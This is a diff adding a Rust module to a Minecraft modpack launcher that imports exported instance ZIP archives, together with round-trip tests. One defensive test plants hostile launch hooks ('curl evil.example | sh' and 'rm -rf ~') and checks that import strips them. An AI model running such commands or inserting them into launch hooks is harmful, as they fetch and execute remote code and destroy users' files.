@@ -0,0 +1,198 @@
+// src-tauri/src/core/modpack_import/instance_archive.rs
+// Import of archives written by `export_instance` (.zip format)
+
+use super::{run_import, stage_overrides, ImportedLoader, ImportedPack};
+use crate::core::instance_export::{
+    EXPORT_CONTENT_PREFIX, EXPORT_INSTANCE_FILE, EXPORT_MANIFEST_FILE,
+};
+use crate::core::minecraft_instance::MinecraftInstance;
+use crate::core::modpack_file_manager::ModpackManifest;
+use std::fs;
+use std::io::Read;
+use std::path::Path;
+
+/// Reads an exported instance, staging its minecraft directory under `staging_root`
+pub fn read_instance_archive(
+    archive_path: &Path,
+    staging_root: &Path,
+) -> Result<ImportedPack, String> {
+    let file = fs::File::open(archive_path)
+        .map_err(|e| format!("No se pudo abrir {}: {}", archive_path.display(), e))?;
+    let mut archive = zip::ZipArchive::new(std::io::BufReader::new(file))
+        .map_err(|e| format!("El archivo no es un ZIP válido: {}", e))?;
+
+    let instance: MinecraftInstance = serde_json::from_str(
+        &read_entry(&mut archive, EXPORT_INSTANCE_FILE)?
+            .ok_or("El archivo no es una instancia exportada de ModpackStore")?,
+    )
+    .map_err(|e| format!("{} inválido: {}", EXPORT_INSTANCE_FILE, e))?;
+
+    // Only present for store instances; a broken copy just means no cleanup history
+    let cached_manifest = read_entry(&mut archive, EXPORT_MANIFEST_FILE)?
+        .and_then(|content| serde_json::from_str::<ModpackManifest>(&content).ok());
+
+    let files = stage_overrides(&mut archive, &[EXPORT_CONTENT_PREFIX], staging_root)?;
+
+    let loader = ImportedLoader::from_instance(&instance);
+    Ok(ImportedPack {
+        name: instance.instanceName.clone(),
+        minecraft_version: instance.minecraftVersion.clone(),
+        manifest: ModpackManifest {
+            id: instance
+                .modpackId
+                .clone()
+                .unwrap_or_else(|| format!("instance:{}", instance.instanceId)),
+            version: instance.modpackVersionId.clone().unwrap_or_default(),
+            mc_version: instance.minecraftVersion.clone(),
+            forge_version: loader.forge_version(),
+            quilt_version: loader.quilt_version(),
+            files,
+            base_mirrors: Vec::new(),
+            launch_options: None,
+        },
+        loader,
+        base_instance: Some(instance),
+        cached_manifest,
+    })
+}
+
+fn read_entry<R: Read + std::io::Seek>(
+    archive: &mut zip::ZipArchive<R>,
+    name: &str,
+) -> Result<Option<String>, String> {
+    let mut entry = match archive.by_name(name) {
+        Ok(entry) => entry,
+        Err(zip::result::ZipError::FileNotFound) => return Ok(None),
+        Err(e) => return Err(format!("Error leyendo {}: {}", name, e)),
+    };
+    let mut content = String::new();
+    entry
+        .read_to_string(&mut content)
+        .map_err(|e| format!("Error leyendo {}: {}", name, e))?;
+    Ok(Some(content))
+}
+
+/// Restores an instance exported with `export_instance` under a new instance id
+#[tauri::command]
+pub async fn import_instance_archive(
+    file_path: String,
+    instance_name: Option<String>,
+) -> Result<String, String> {
+    run_import(
+        file_path,
+        instance_name,
+        "instance_import",
+        read_instance_archive,
+    )
+    .await
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::core::instance_export::{write_export_archive, ExportFormat, ExportOptions};
+    use crate::core::minecraft::hooks::LaunchHooks;
+    use crate::core::modpack_import::create_imported_instance;
+    use tempfile::tempdir;
+
+    #[test]
+    fn test_exported_instance_round_trips() {
+        let dir = tempdir().unwrap();
+        let source_dir = dir.path().join("source");
+        let minecraft_dir = source_dir.join("minecraft");
+        fs::create_dir_all(minecraft_dir.join("mods")).unwrap();
+        fs::write(minecraft_dir.join("mods/jei.jar"), "hello").unwrap();
+        fs::create_dir_all(source_dir.join(".modpack_cache")).unwrap();
+        fs::write(
+            source_dir.join(".modpack_cache").join(EXPORT_MANIFEST_FILE),
+            serde_json::json!({
+                "id": "pack", "version": "3", "mcVersion": "1.20.1", "files": []
+            })
+            .to_string(),
+        )
+        .unwrap();
+
+        let mut instance = MinecraftInstance::new();
+        instance.instanceId = "source-id".to_string();
+        instance.instanceName = "My Pack".to_string();
+        instance.minecraftVersion = "1.20.1".to_string();
+        instance.modpackId = Some("pack".to_string());
+        instance.accountUuid = Some("someone".to_string());
+        instance.instanceDirectory = Some(source_dir.to_string_lossy().to_string());
+        instance.minecraftPath = minecraft_dir.to_string_lossy().to_string();
+
+        let archive = dir.path().join("export.zip");
+        let options = ExportOptions {
+            format: ExportFormat::Zip,
+            include_saves: false,
+            include_resourcepacks: false,
+            include_shaderpacks: false,
+            include_options: false,
+        };
+        write_export_archive(&instance, &archive, &options, |_, _| {}).unwrap();
+
+        let pack = read_instance_archive(&archive, &dir.path().join("staging")).unwrap();
+        assert_eq!(pack.name, "My Pack");
+        assert_eq!(pack.loader, ImportedLoader::Vanilla);
+        assert_eq!(pack.manifest.id, "pack");
+        assert_eq!(pack.manifest.files.len(), 1);
+        assert_eq!(pack.manifest.files[0].path, "mods/jei.jar");
+        assert_eq!(pack.cached_manifest.unwrap().version, "3");
+
+        let base = pack.base_instance.unwrap();
+        assert_eq!(base.modpackId.as_deref(), Some("pack"));
+        assert_eq!(base.instanceId, "source-id");
+    }
+
+    #[test]
+    fn test_import_drops_hooks_and_wrappers() {
+        let dir = tempdir().unwrap();
+        let mut instance = MinecraftInstance::new();
+        instance.instanceId = "source-id".to_string();
+        instance.instanceName = "Shared".to_string();
+        instance.minecraftVersion = "1.20.1".to_string();
+        instance.launchOptions.wrappers = Some(vec!["gamemoderun".to_string()]);
+        instance.launchOptions.hooks.pre_launch = Some("curl evil.example | sh".to_string());
+        instance.launchOptions.hooks.post_exit = Some("rm -rf ~".to_string());
+        instance.launchOptions.jvm_args = vec!["-XX:+UseG1GC".to_string()];
+
+        let archive = dir.path().join("shared.zip");
+        let mut writer = zip::ZipWriter::new(fs::File::create(&archive).unwrap());
+        writer
+            .start_file(
+                EXPORT_INSTANCE_FILE,
+                zip::write::SimpleFileOptions::default(),
+            )
+            .unwrap();
+        std::io::Write::write_all(
+            &mut writer,
+            serde_json::to_string(&instance).unwrap().as_bytes(),
+        )
+        .unwrap();
+        writer.finish().unwrap();
+
+        let pack = read_instance_archive(&archive, &dir.path().join("staging")).unwrap();
+        let base = pack.base_instance.as_ref().unwrap();
+        assert!(base.launchOptions.hooks.pre_launch.is_some());
+
+        let imported =
+            create_imported_instance("new-id", &dir.path().join("new-id"), "Shared".into(), &pack)
+                .unwrap();
+        assert_eq!(imported.launchOptions.hooks, LaunchHooks::default());
+        assert_eq!(imported.launchOptions.wrappers, None);
+        assert_eq!(imported.launchOptions.jvm_args, vec!["-XX:+UseG1GC"]);
+    }
+
+    #[test]
+    fn test_archive_without_instance_json_is_rejected() {
+        let dir = tempdir().unwrap();
+        let archive = dir.path().join("random.zip");
+        let mut writer = zip::ZipWriter::new(fs::File::create(&archive).unwrap());
+        writer
+            .start_file("readme.txt", zip::write::SimpleFileOptions::default())
+            .unwrap();
+        writer.finish().unwrap();
+
+        assert!(read_instance_archive(&archive, &dir.path().join("staging")).is_err());
+    }
+}